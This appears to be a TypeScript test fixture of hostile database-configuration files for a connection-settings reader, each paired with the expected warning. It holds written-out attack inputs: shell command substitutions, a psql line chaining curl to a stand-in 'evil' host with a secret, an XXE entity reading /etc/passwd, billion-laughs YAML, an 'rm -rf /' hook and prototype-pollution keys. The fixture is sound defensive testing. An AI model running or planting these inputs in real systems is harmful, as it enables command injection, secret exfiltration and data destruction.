import { withReferences } from './summary'

/** A secret that stands in the hostile files and must not stand in anything that is said of them. */
export const CANARY = 'Canary#42-hush'

/** A hostile file. */
export interface HostileFile {
  readonly name: string
  readonly fileName: string
  readonly content: string | Uint8Array
  /** What is said about it: a refusal of the whole, or a remark on a finding. Nothing for a file in which nothing is found. */
  readonly says: RegExp
}

const bytes = (...parts: (string | number[])[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part))))
const compose = (lines: string) => `services:\n  db:\n    image: postgres\n    ports: ["5433:5432"]\n${lines}`
const server = (more: object) =>
  JSON.stringify({ Servers: { 1: { Name: 'x', Host: 'h', Port: 5432, Username: 'u', MaintenanceDB: 'd', ...more } } })
const dbeaver = (configuration: object, more: object = {}) =>
  JSON.stringify({ connections: { a: { provider: 'postgresql', name: 'x', configuration, ...more } } })
/** Lines up to a little less than 1 MB. */
function megabyte(line: (at: number) => string): string {
  let text = ''
  for (let at = 1; text.length < 1_040_000; at += 1) text += line(at)
  return text
}

const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
for (const [at, name] of [...'bcdefghi'].entries()) {
  const before = 'abcdefgh'.charAt(at)
  laughs.push(`${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(',')}]`)
}

const FILES: readonly (readonly [string, string, string | Uint8Array, RegExp])[] = [
  // bytes
  ['a NUL in the text', '.env', `PGHOST=h\nPGPASSWORD=${CANARY}\0x\n`, /line 2 holds a NUL/],
  ['UTF-16 with its mark', '.env', bytes([0xff, 0xfe], 'P\0G\0H\0'), /UTF-16/],
  ['UTF-16 without a mark', '.env', bytes('P\0G\0H\0O\0S\0T\0=\0h\0'), /NUL/],
  ['bytes that are not UTF-8', '.env', bytes('PGHOST=h\nPGPASSWORD=', [0xff, 0xc3, 0x28], CANARY), /not UTF-8/],
  ['an overlong UTF-8 form of /', '.env', bytes('PGHOST=', [0xc0, 0xaf], 'etc'), /not UTF-8/],
  ['a byte more than 1 MB', '.env', bytes('#'.repeat(1024 * 1024 + 1)), /larger than 1 MB/],
  ['an archive', 'docker-compose.yml', bytes('PK\u0003\u0004', CANARY), /archive/],
  ['XML with an entity of a file', 'data-sources.xml', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', /XML/],
  ['nothing but spaces', '.env', ' \n\t\n', /empty/],
  ["DBeaver's encrypted passwords", 'credentials-config.json', bytes(CANARY), /encrypted/],
  // values
  [
    'a control character in the role',
    '.env',
    `PGHOST=h\nPGUSER="a\u0007b"\nPGPASSWORD=${CANARY}\n`,
    /Line 2: PGUSER|role holds a control/,
  ],
  [
    'start-up parameters behind a NUL in a URL',
    '.env',
    `DATABASE_URL=postgres://u:${CANARY.replace('#', '%23')}@h/d%00options%00-c\n`,
    /control character/,
  ],
  [
    'a host in the query of a URL',
    '',
    `postgres://u:${encodeURIComponent(CANARY)}@safe/d?host=evil&port=1`,
    /"name":"host=evil"/,
  ],
  ['a folder as host', '.env', `PGHOST=/etc\nPGUSER=u\nPGPASSWORD=${CANARY}\n`, /"host":"\/etc"/],
  [
    'a root certificate that is another file',
    '.env',
    'PGHOST=h\nPGUSER=u\nPGSSLMODE=verify-full\nPGSSLROOTCERT=/etc/passwd\n',
    /"rootCertificate":"\/etc\/passwd"/,
  ],
  [
    'server options',
    '',
    `host=h user=u options='-c shared_preload_libraries=${CANARY} -c statement_timeout=0'`,
    /options shared_preload_libraries/,
  ],
  ['several hosts', '.env', 'PGHOST=a,b\nPGUSER=u\nPGDATABASE=d\n', /several hosts/],
  ['a host that draws backwards', '.env', 'PGHOST=good\u202Ekcatta\nPGUSER=u\n', /cannot have/],
  [
    'a host with Cyrillic letters',
    '.env',
    'PGHOST=\u0440\u0430\u0443\u0440\u0430l.com\nPGUSER=u\n',
    /looked up as xn--/,
  ],
  [
    'a host with spaces that go on as keywords',
    '.env',
    `PGHOST="a dbname=b password=${CANARY}"\nPGUSER=u\n`,
    /cannot have/,
  ],
  [
    'a database that is a URL',
    '.env',
    `PGHOST=h\nPGUSER=u\nPGDATABASE=postgres://x:${CANARY}@evil/d\n`,
    /database name looks like a URL/,
  ],
  ['a huge port', '.env', 'PGHOST=h\nPGUSER=u\nPGPORT=99999999999999999999\n', /1 to 65535/],
  ['a port in another notation', 'servers.json', server({ Port: 1e21 }), /1 to 65535/],
  ['a negative port', 'servers.json', server({ Port: -5432 }), /1 to 65535/],
  ['a role over the limit', '.env', `PGHOST=h\nPGUSER=${'x'.repeat(5000)}\n`, /longer than 63/],
  ['a value of 900 KB', '.env', `PGHOST=${'h'.repeat(900_000)}\nPGUSER=u\n`, /longer than 1024/],
  // expansion
  [
    'a command in a value',
    '.env',
    `PGHOST=$(touch /tmp/strata-owned)\nPGUSER=u\nPGPASSWORD=${CANARY}\n`,
    /a shell would run/,
  ],
  ['a command in backticks', '.env', 'PGHOST=`hostname`\nPGUSER=u\n', /a shell would run/],
  ['a command in a default', '.env', '@{HOME:-$(id)}'.replace(/^/, 'PGUSER=u\nPGHOST='), /a shell would run/],
  ['a variable of the environment', '.env', 'PGHOST=@{HOME}\nPGUSER=u\n', /HOME, which this file does not set/],
  ['variables that refer to each other', '.env', 'PGHOST=@{A}\nA=@{B}\nB=@{A}\nPGUSER=u\n', /refers to something else/],
  ['a reference within a reference', '.env', 'PGHOST=@{A:-@{B:-x}}\nPGUSER=u\n', /variable/],
  [
    'an object prototype as a variable',
    '.env',
    `__proto__=x\nconstructor=y\ntoString=z\nPGHOST=@{__proto__}@{constructor}\nPGUSER=u\nPGPASSWORD=${CANARY}\n`,
    /"host":"xy"/,
  ],
  ['a variable set twice', '.env', `PGHOST=a\nPGHOST=b\nPGUSER=u\nPGPASSWORD=${CANARY}\n`, /set more than once/],
  [
    'passwords of two values',
    '',
    `postgres://u:${encodeURIComponent(CANARY)}@h/d?password=other&password=third`,
    /"name":"password"/,
  ],
  ['a quote that is never closed', '.env', `PGHOST="h\nPGUSER=u\nPGPASSWORD=${CANARY}\n`, /cannot have/],
  ['psql with a second command', '', `psql -h h -U u d; curl http://evil/${CANARY}`, /goes on behind psql/],
  ['psql with a file to run', '', 'psql -h h -U u -f /etc/passwd d', /"name":"-f"/],
  // size
  [
    '1 MB of variables with prefixes of their own',
    '.env',
    megabyte((at) => `A${at}_DB_HOST=h${at}\nA${at}_DB_USER=u\n`),
    /"host":"h1"/,
  ],
  ['1 MB of URLs', '.env', megabyte((at) => `U${at}=postgres://u:x@h${at}/d\n`), /"host":"h1"/],
  ['1 MB of quotes', '.env', megabyte(() => 'A="\n'), /^$/],
  ['1 MB of references', '.env', `PGUSER=u\nPGHOST=${'@{A:-b}'.repeat(140_000)}\n`, /longer than 1024/],
  ['1 MB of dollars', '.env', `PGUSER=u\nPGHOST=${'@{'.repeat(400_000)}\n`, /variable/],
  ['1 MB of services', 'pg_service.conf', megabyte((at) => `[s${at}]\nhost=h${at}\n`), /"host":"h1"/],
  [
    '1 MB of one service',
    'pg_service.conf',
    `[s]\nhost=h\n${megabyte((at) => `k${at}=v\n`)}`,
    /libpq refuses this service/,
  ],
  [
    '1 MB of continued lines',
    'yoyo.ini',
    `[DEFAULT]\ndatabase = postgres://u@h/d\n${megabyte(() => ' x\n')}`,
    /too long for a connection/,
  ],
  ['1 MB of percent signs', 'yoyo.ini', `[DEFAULT]\ndatabase = ${'%%'.repeat(500_000)}\n`, /single %/],
  ['1 MB of commands', 'notes.txt', megabyte((at) => `psql -h h${at} -U u d\n`), /"host":"h1"/],
  ['1 MB in one line', 'notes.txt', `psql ${'-h '.repeat(340_000)}`, /too long/],
  [
    '1 MB of connections',
    'data-sources.json',
    `{"connections":{${megabyte((at) => `"a${at}":{"provider":"postgresql","configuration":{"host":"h"}},`)}"z":{}}}`,
    /"host":"h"/,
  ],
  // YAML
  [
    'a YAML of a billion laughs',
    'docker-compose.yml',
    `${laughs.join('\n')}\nservices:\n  db:\n    image: postgres\n    environment: *i\n    ports: *i\n`,
    /port/,
  ],
  [
    'a YAML tag that makes a function',
    'docker-compose.yml',
    compose(`    environment:\n      POSTGRES_PASSWORD: !!js/function "${CANARY}"\n`),
    /POSTGRES_PASSWORD comes from/,
  ],
  ['a YAML of 10,000 brackets', 'docker-compose.yml', `services: ${'['.repeat(10_000)}`, /nested too deeply/],
  ['a YAML of 10,000 nested lists', 'docker-compose.yml', `services:\n  ${'- '.repeat(10_000)}`, /nested/],
  [
    'a YAML of complex keys',
    'docker-compose.yml',
    `services:\n${'? '.repeat(5000)}`,
    /nested YAML values or a complex key/,
  ],
  ['a YAML of several documents', 'docker-compose.yml', `${compose('')}---\n${compose('')}`, /several YAML documents/],
  [
    'a YAML that is broken in a password',
    'docker-compose.yml',
    compose(`    environment:\n      POSTGRES_PASSWORD: "${CANARY}\n`),
    /not valid YAML: see line/,
  ],
  ['a YAML with a key twice', 'docker-compose.yml', compose('    image: evil\n'), /not valid YAML/],
  ['a YAML of 65 KB', 'docker-compose.yml', compose(`#${'x'.repeat(65_536)}`), /larger than 64 KB/],
  [
    'a Compose file that includes others',
    'docker-compose.yml',
    compose(`    extends: {file: /etc/passwd, service: x}\n    env_file: /etc/shadow\n`),
    /env_file names another file/,
  ],
  [
    'a Compose merge key',
    'docker-compose.yml',
    `x: &x\n  image: postgres\nservices:\n  db:\n    <<: *x\n    environment: {POSTGRES_PASSWORD: "${CANARY}"}\n`,
    /<< takes over parts/,
  ],
  [
    'a Compose value from the environment',
    'docker-compose.yml',
    withReferences(compose('    environment:\n      POSTGRES_PASSWORD: $PASSWORD\n')),
    /refers to a variable/,
  ],
  ['a Compose alias of itself', 'docker-compose.yml', 'services: &s\n  db: *s\n', /^$/],
  // INI
  [
    'an INI value that refers to itself',
    'yoyo.ini',
    '[DEFAULT]\na = %(b)s\nb = %(a)s\ndatabase = postgres://u@%(a)s/d\n',
    /refers to itself/,
  ],
  [
    'an INI value that doubles itself',
    'yoyo.ini',
    `[DEFAULT]\n${Array.from({ length: 5 }, (_, at) => `a${at} = ${`%(a${at + 1})s`.repeat(20)}`).join('\n')}\na5 = ${'x'.repeat(500)}\ndatabase = postgres://u@%(a0)s/d\n`,
    /grows too long/,
  ],
  [
    'an INI value of the environment',
    'yoyo.ini',
    '[DEFAULT]\ndatabase = postgres://u:%(DB_PASSWORD)s@h/d\n',
    /%\(DB_PASSWORD\)s, which this file does not set/,
  ],
  [
    'an INI file that includes others',
    'yoyo.ini',
    `[DEFAULT]\n%include = /etc/passwd\ndatabase = postgres://u:${CANARY.replace('#', '%%23')}@h/d\n`,
    /not read/,
  ],
  [
    'an INI with a single %',
    'alembic.ini',
    `[alembic]\nsqlalchemy.url = postgres://u:${encodeURIComponent(CANARY)}@h/d\n`,
    /write it as %%/,
  ],
  [
    "alembic's example",
    'alembic.ini',
    '[alembic]\nsqlalchemy.url = driver://user:pass@localhost/dbname\n',
    /still the example/,
  ],
  [
    'an INI with a key twice',
    'yoyo.ini',
    `[DEFAULT]\ndatabase = postgres://u:x@a/d\ndatabase = postgres://u:x@b/d\n`,
    /stands twice/,
  ],
  [
    'an INI of another database',
    'yoyo.ini',
    `[DEFAULT]\ndatabase = mysql://u:${CANARY}@h/d\n`,
    /does not lead to PostgreSQL/,
  ],
  ['an INI of 300,000 sections', 'x.ini', '[a]\n[b]\n'.repeat(100_000), /neither yoyo/],
  // service file
  [
    'a service that names another',
    '.pg_service.conf',
    `[a]\nhost=h\npassword=${CANARY}\nservice=b\n`,
    /names another service/,
  ],
  ['a service that asks LDAP', 'pg_service.conf', '[a]\nldap://evil/dc=x?y?one?z\nhost=h\n', /LDAP/],
  [
    'a service with files',
    'pg_service.conf',
    '[a]\nhost=h\nuser=u\npassfile=/etc/passwd\nsslkeylogfile=/tmp/keys\n',
    /"name":"sslkeylogfile"/,
  ],
  [
    'a service with a line of 5,000 bytes',
    'pg_service.conf',
    `[a]\nhost=h\nuser=${'x'.repeat(5000)}\n`,
    /longer than libpq reads/,
  ],
  // JSON
  ['a JSON of 100,000 brackets', 'servers.json', `{"Servers":${'['.repeat(100_000)}`, /nested too deeply/],
  ['a JSON that is cut off', 'servers.json', server({ Password: CANARY }).slice(0, -2), /cut off/],
  [
    'a JSON with a prototype',
    'servers.json',
    `{"Servers":{"__proto__":{"Host":"evil"},"1":{"Name":"x","__proto__":{"Username":"${CANARY}"},"Host":"h"}}}`,
    /No role|"missing":\["database","role"\]/,
  ],
  ['a JSON of another tool', 'settings.json', `{"a":"${CANARY}"}`, /neither DBeaver/],
  [
    'a JSON of 50,000 servers',
    'servers.json',
    JSON.stringify({ Servers: Object.fromEntries(Array.from({ length: 20_000 }, (_, at) => [at, { Host: 'h' }])) }),
    /"host":"h"/,
  ],
  [
    'pgAdmin with a command for the password',
    'servers.json',
    server({ PasswordExecCommand: 'touch /tmp/strata-owned' }),
    /Strata runs nothing/,
  ],
  [
    'pgAdmin with a tunnel without a host',
    'servers.json',
    server({ UseSSHTunnel: 1, TunnelHost: '' }),
    /tunnel that cannot be used/,
  ],
  [
    'pgAdmin with a tunnel to an option',
    'servers.json',
    server({ UseSSHTunnel: 1, TunnelHost: 'a b' }),
    /tunnel that cannot be used/,
  ],
  [
    'DBeaver with a variable',
    'data-sources.json',
    withReferences(dbeaver({ host: '@{env.HOME}', user: 'u' })),
    /variable that Strata does not read/,
  ],
  [
    'DBeaver with commands',
    'data-sources.json',
    dbeaver({ host: 'h', user: 'u', events: { AFTER_CONNECT: { command: 'rm -rf /' } } }),
    /Commands that DBeaver would run/,
  ],
  [
    'DBeaver with a proxy',
    'data-sources.json',
    dbeaver({ host: 'h', user: 'u', handlers: { socks_proxy: { enabled: true } } }),
    /proxy/,
  ],
  [
    'DBeaver with a password in its name',
    'data-sources.json',
    dbeaver(
      { host: 'h', user: 'u', password: CANARY },
      { name: `db (${CANARY})`, folder: `postgres://u:${CANARY.replace('#', '')}@h/d` },
    ),
    /"host":"h"/,
  ],
]

/** Files that try to have something read, run, expanded or shown that is not theirs. */
export const HOSTILE_FILES: readonly HostileFile[] = FILES.map(([name, fileName, content, says]) => ({
  name,
  fileName,
  content: typeof content === 'string' ? withReferences(content) : content,
  says,
}))
